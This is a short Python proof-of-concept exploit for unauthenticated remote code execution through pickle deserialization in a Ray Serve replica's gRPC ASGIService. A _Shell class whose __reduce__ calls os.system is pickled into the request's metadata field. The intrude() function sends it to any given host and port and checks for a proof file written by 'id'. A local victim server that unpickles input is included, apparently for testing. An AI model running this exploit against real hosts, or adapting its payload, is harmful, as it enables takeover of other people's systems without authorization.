"""Somebody without a token who found a port: has whatever listens there unpickle a command.

`python intruder.py` serves one port that does, as a replica of Ray Serve would, and prints it.
"""

import os
import pickle
import sys
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path


class _Shell:
    """A shell command that runs where this is unpickled."""

    def __init__(self, command: str) -> None:
        self._command = command

    def __reduce__(self) -> tuple[object, ...]:
        return os.system, (self._command,)


def intrude(host: str, port: int, proof: Path) -> bool:
    """Whether a request to a replica of Ray Serve at `host`:`port` wrote the file `proof`."""
    import grpc
    from ray.serve.generated import serve_pb2, serve_pb2_grpc

    address = f"[{host}]:{port}" if ":" in host else f"{host}:{port}"
    metadata = pickle.dumps(_Shell(f"id > {proof}"))
    with grpc.insecure_channel(address) as channel:
        try:
            serve_pb2_grpc.ASGIServiceStub(channel).HandleRequest(
                serve_pb2.ASGIRequest(pickled_request_metadata=metadata), timeout=5
            )
        except grpc.RpcError as error:
            print(error.code(), file=sys.stderr)
    return proof.exists()


def open_a_victim() -> None:
    """Serve a port that unpickles what it receives, until the process ends."""
    import grpc
    from ray.serve.generated import serve_pb2, serve_pb2_grpc

    class Victim(serve_pb2_grpc.ASGIServiceServicer):
        def HandleRequest(self, request, context):
            pickle.loads(request.pickled_request_metadata)
            return serve_pb2.ASGIResponse()

    server = grpc.server(ThreadPoolExecutor(1))
    serve_pb2_grpc.add_ASGIServiceServicer_to_server(Victim(), server)
    print(server.add_insecure_port("127.0.0.1:0"), flush=True)
    server.start()
    server.wait_for_termination()


if __name__ == "__main__":
    open_a_victim()
